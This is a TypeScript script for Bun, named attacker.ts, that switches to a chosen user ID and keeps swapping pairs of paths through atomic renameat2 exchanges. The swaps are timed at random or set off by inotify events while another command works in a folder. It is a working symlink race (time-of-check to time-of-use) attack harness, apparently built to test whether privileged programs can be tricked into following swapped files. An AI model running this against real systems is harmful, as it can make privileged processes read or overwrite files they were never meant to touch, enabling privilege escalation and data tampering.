/**
 * A user who swaps what is in their hands for links and back, while a command
 * works there. Run by Bun, which reaches the C library without a compiler:
 *
 *     bun attacker.ts UID loop|step FOLDER PATH OTHER [PATH OTHER]...
 *
 * `loop` swaps all the time, `step` whenever something happens in FOLDER. The
 * swap is one system call, so that no moment shows neither of the two.
 */
import { dlopen } from "bun:ffi";
import * as fs from "node:fs";
import process from "node:process";

const { symbols: libc } = dlopen("libc.so.6", {
  renameat2: { args: ["int", "ptr", "int", "ptr", "u32"], returns: "int" },
  inotify_init1: { args: ["int"], returns: "int" },
  inotify_add_watch: { args: ["int", "ptr", "u32"], returns: "int" },
  read: { args: ["int", "ptr", "u64"], returns: "i64" },
});

const AT_FDCWD = -100;
const RENAME_NOREPLACE = 1;
const RENAME_EXCHANGE = 2;
const IN_NONBLOCK = 0o4000;
const IN_ACCESS_OPEN_CREATE_DELETE = 0x1 | 0x20 | 0x100 | 0x200;
const LONGEST_MS = 0.4;
const PATIENCE_MS = 20;

const [uid = "", mode = "", folder = "", ...names] = process.argv.slice(2);
const paths = names.map((name) => Buffer.from(`${name}\0`));

function becomeUser(id: number): void {
  process.setgroups?.([]);
  process.setgid?.(id);
  process.setuid?.(id);
}

// Where only one of the two is there, it moves to the other's name.
function swap(pair: number): void {
  const [path, other] = [paths[2 * pair]!, paths[2 * pair + 1]!];
  rename(path, other, RENAME_EXCHANGE) ||
    rename(other, path, RENAME_NOREPLACE) ||
    rename(path, other, RENAME_NOREPLACE);
}

function rename(from: Buffer, to: Buffer, flags: number): boolean {
  return libc.renameat2(AT_FDCWD, from, AT_FDCWD, to, flags) === 0;
}

function spin(milliseconds: number, until = () => false): void {
  const end = performance.now() + milliseconds;
  while (performance.now() < end && !until());
}

// As often a millionth of a second as ten or a hundred.
function moment(): number {
  return LONGEST_MS * 10 ** (-3 * Math.random());
}

function watch(): () => boolean {
  const descriptor = libc.inotify_init1(IN_NONBLOCK);
  const path = Buffer.from(`${folder}\0`);
  libc.inotify_add_watch(descriptor, path, IN_ACCESS_OPEN_CREATE_DELETE);
  const buffer = Buffer.alloc(4096);
  return () => libc.read(descriptor, buffer, buffer.length) > 0;
}

becomeUser(Number(uid));
const happened = mode === "step" ? watch() : () => false;
fs.writeSync(1, "ready\n");
for (;;) {
  const pair = Math.floor(Math.random() * paths.length / 2);
  if (mode === "step") spin(PATIENCE_MS, happened);
  spin(moment());
  swap(pair);
  spin(moment());
  swap(pair);
}
